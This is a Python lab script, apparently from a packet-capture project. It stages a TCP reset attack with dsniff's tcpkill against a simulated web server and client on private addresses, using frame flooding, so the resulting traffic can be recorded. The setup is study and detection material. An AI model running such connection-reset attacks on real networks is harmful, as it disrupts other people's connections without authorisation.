"""tcpkill (dsniff) resets the connections of another host to a web server. The bridge forwards frames to all ports, as
a switch does under MAC flooding; otherwise the attacker would not receive them. Needs dsniff and curl.

Run it as ``python -m pcaps.lab.attacks.resets``.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

from pcaps.lab._lab import Lab, record

ATTACKER, SERVER, CLIENT = "10.20.10.66", "10.20.10.5", "10.20.10.40"


def tcpkill(lab: Lab) -> Iterator[None]:
    server, attacker, client = lab.host("web", SERVER), lab.host("attacker", ATTACKER), lab.host("desk", CLIENT)
    lab.serve(server, "pages", port=80)
    lab.flood_frames()
    lab.run(attacker, "ping", "-c", "1", SERVER)
    yield
    lab.start(attacker, "tcpkill", "-i", "eth0", "-9", "host", SERVER)
    time.sleep(1)
    for _ in range(4):
        lab.run(client, "curl", "-s", "-m", "2", "--limit-rate", "1", f"http://{SERVER}/notes-3000.txt")


if __name__ == "__main__":
    record(Path(__file__).parent, reset_tcpkill=tcpkill)
